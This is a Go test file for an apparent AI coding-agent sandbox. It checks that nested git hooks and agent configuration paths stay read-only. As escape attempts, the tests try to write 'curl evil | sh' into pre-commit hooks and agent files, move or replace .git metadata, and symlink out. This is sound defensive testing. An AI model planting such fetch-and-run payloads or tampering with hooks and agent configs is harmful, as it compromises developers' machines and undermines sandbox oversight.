//go:build linux

package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/grovecli/grove/protocol"
)

// nestedWorkspace builds issue 21's workspace: a nested repository, agent
// configuration below the top level, and `git init --separate-git-dir
// .repo` (.git is a file naming .repo).
func nestedWorkspace(t *testing.T) string {
	t.Helper()
	work, _ := dirs(t)
	for _, d := range []string{"sub/.git/hooks", "sub/.grove/agents", "deep/a/b/.codex", "x/.agents", "y/.claude/agents", ".repo/hooks", "src"} {
		if err := os.MkdirAll(filepath.Join(work, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(work, ".git"), []byte("gitdir: .repo\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return work
}

var nestedTargets = []string{"sub/.git/hooks/pre-commit", "sub/.grove/agents/evil.md", "deep/a/b/.codex/config.toml",
	"x/.agents/evil.md", "y/.claude/agents/evil.md", ".repo/hooks/pre-commit", ".repo/config"}

// Commands: with namespaces every protected path at any depth (and the
// directory a gitfile names) is a read-only mount.
func TestEscapeNestedProtectedPaths(t *testing.T) {
	requireLandlock(t, 1)
	if !namespacesAvailable() {
		t.Skip("no user namespaces: see TestNestedProtectedPathsRefusedWithoutNamespaces")
	}
	work := nestedWorkspace(t)
	for _, target := range nestedTargets {
		out, _ := sh(t, workspaceWrite, work, "echo 'curl evil | sh' > "+target+"; echo done")
		if exists(filepath.Join(work, target)) || !deniedByKernel(out) {
			t.Errorf("%s was written: %s", target, out)
		}
	}
	// The other angle: move the metadata away and put a writable copy in
	// its place, or replace the gitfile.
	for _, a := range []string{"mv sub/.git sub/old", "rm -rf sub/.grove", "mv .repo r2", "echo 'gitdir: evil' > .git", "ln -sf /tmp x/.agents/l"} {
		// A mount point cannot be moved or removed (EBUSY) either.
		if out, _ := sh(t, workspaceWrite, work, a+"; echo done"); !deniedByKernel(out) && !strings.Contains(out, "busy") {
			t.Errorf("%q: %s", a, out)
		}
	}
	if raw, _ := os.ReadFile(filepath.Join(work, ".git")); string(raw) != "gitdir: .repo\n" || !exists(filepath.Join(work, "sub/.git/hooks")) || !exists(filepath.Join(work, ".repo/hooks")) {
		t.Fatalf("the metadata changed: .git = %q", raw)
	}
	if out, code := sh(t, workspaceWrite, work, "echo ok > src/f && cat src/f"); code != 0 || !strings.Contains(out, "ok") {
		t.Fatalf("ordinary write: exit %d: %s", code, out)
	}
}

// Without namespaces nothing can keep them read-only: workspace-write
// refuses to run (clearly) while a root holds one, also one made after
// the sandbox's helper started.
func TestNestedProtectedPathsRefusedWithoutNamespaces(t *testing.T) {
	requireLandlock(t, 1)
	withoutNamespaces(t)
	start := func(work string) error {
		_, pw, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		defer pw.Close()
		p, err := Start(StartRequest{Policy: workspaceWrite, Cwd: work, Dir: work, Argv: []string{"bash", "-c", "echo x > src/f"}, Env: os.Environ(), Out: pw})
		if err == nil {
			_, err = p.Wait()
		}
		return err
	}
	work := nestedWorkspace(t)
	err := start(work)
	if err == nil || !strings.Contains(err.Error(), "cannot keep") {
		t.Fatalf("ran without protecting the nested metadata: %v", err)
	}
	if exists(filepath.Join(work, "src/f")) {
		t.Fatal("the command ran")
	}
	clean, _ := dirs(t)
	if err := os.MkdirAll(filepath.Join(clean, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := start(clean); err != nil {
		t.Fatalf("a workspace without protected paths: %v", err)
	}
	// git init by an earlier (allowed) command: the next one is refused.
	if err := os.MkdirAll(filepath.Join(clean, "new/.git/hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := start(clean); err == nil || !strings.Contains(err.Error(), "cannot keep") {
		t.Fatalf("after git init: %v", err)
	}
	// read-only is unaffected.
	if out, code := sh(t, readOnly, work, "cat .git"); code != 0 || !strings.Contains(out, "gitdir") {
		t.Fatalf("read-only: exit %d: %s", code, out)
	}
}

// apply_patch's check (CheckWritable) refuses the same paths.
func TestCheckWritableNestedProtectedPaths(t *testing.T) {
	work := nestedWorkspace(t)
	for _, target := range append(nestedTargets, ".git", "sub/.git", "new/deeper/.git/config", "A/.grove/x") {
		if err := CheckWritable(workspaceWrite, work, target); err == nil || !strings.Contains(err.Error(), "read-only") {
			t.Errorf("%s: %v", target, err)
		}
	}
	for _, ok := range []string{"src/f", "repo/hooks/x", ".gitignore", "sub/git/x", ".github/workflows/ci.yml"} {
		if err := CheckWritable(workspaceWrite, work, ok); err != nil {
			t.Errorf("%s: %v", ok, err)
		}
	}
	// A symlink into a protected directory is followed.
	if err := os.Symlink(filepath.Join(work, ".repo/hooks"), filepath.Join(work, "src/h")); err != nil {
		t.Fatal(err)
	}
	if err := CheckWritable(protocol.SandboxPolicy{ExcludeSlashTmp: true, Mode: protocol.SandboxWorkspaceWrite}, work, "src/h/pre-push"); err == nil {
		t.Error("src/h/pre-push (a link into .repo/hooks) is writable")
	}
}

// The shared temp directory (a writable root) is not scanned: another
// project's clone there must not refuse every command on a host without
// namespaces, nor a directory vanishing mid-walk fail the sandbox. Found
// by BenchmarkHelper, whose workspace is under a busy /tmp.
func TestTempDirIsNotScannedForProtectedPaths(t *testing.T) {
	requireLandlock(t, 1)
	withoutNamespaces(t)
	base := t.TempDir()
	tmp, work := filepath.Join(base, "tmp"), filepath.Join(base, "work")
	for _, d := range []string{filepath.Join(tmp, "other-clone", ".git", "hooks"), work} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("TMPDIR", tmp)
	if out, code := sh(t, workspaceWrite, work, "echo ok > f && cat f"); code != 0 || !strings.Contains(out, "ok") {
		t.Fatalf("exit %d: %s", code, out)
	}
	// apply_patch still refuses the name there.
	if err := CheckWritable(workspaceWrite, work, filepath.Join(tmp, "other-clone", ".git", "hooks", "x")); err == nil {
		t.Fatal("a .git under the temp dir is writable by apply_patch")
	}
}
